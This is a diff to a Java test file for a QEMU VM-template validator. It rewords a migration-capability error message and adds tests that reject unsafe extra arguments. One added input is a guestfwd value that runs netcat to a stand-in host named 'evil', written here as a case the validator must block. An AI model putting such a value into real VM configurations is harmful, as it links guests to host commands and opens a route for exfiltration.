@@ -105,8 +105,8 @@ class VmTemplateValidatorTest {
         testCapability("postcopy-ram", "postcopy-ram needs guest RAM in the migration stream (QEMU: Postcopy is not"
                 + " compatible with ignore-shared); remove it");
         testCapability("x-ignore-shared", "x-ignore-shared is always on for the state save; remove it");
-        testCapability("multifd", "multifd only matters for live migration over a network, not for saving a stopped"
-                + " VM's device state to a file; remove it (allowed: events, validate-uuid)");
+        testCapability("multifd", "multifd is for live migration or for saving RAM, but the template's state is saved"
+                + " from a stopped VM with its RAM left in the memory file (x-ignore-shared); remove it (allowed: events, validate-uuid)");
         testCapability("turbo", "\"turbo\" is not a QEMU 10 migration capability this operator allows; use one of"
                 + " events, validate-uuid or remove it");
         testError(spec -> spec.withObject("/freeze").putArray("migrationCapabilities").add("events").add("validate-uuid"));
@@ -148,6 +148,10 @@ class VmTemplateValidatorTest {
                 + " pod does not have; use spec.devices.network.mode user");
         testArgs(List.of("-netdev", "user,id=n0,smb=/srv"), "spec.qemu.extraArgs[1]: smb= refers to files on the host"
                 + " that the pod does not have; boot files come from spec.boot (hostPath, persistentVolumeClaim or image)");
+        testArgs(List.of("-netdev", "user,id=n0,guestfwd=tcp:10.0.2.100:80-cmd:nc evil 80"), "spec.qemu.extraArgs[1]:"
+                + " guestfwd connects the guest to host commands or sockets; remove it");
+        testArgs(List.of("-netdev", "user,id=n0,hostfwd=tcp::2222-:22"), "spec.qemu.extraArgs[1]: hostfwd belongs to"
+                + " each clone, not to the template; use VmClone spec.portForwards");
         testArgs(List.of("-qmp", "unix:/tmp/q.sock"), "spec.qemu.extraArgs[0]: -qmp: the operator owns QEMU's monitor and QMP; remove it");
         testArgs(List.of("-serial", "file:/tmp/log"), "spec.qemu.extraArgs[0]: -serial: the operator owns the serial"
                 + " console; use spec.devices.serialConsole");
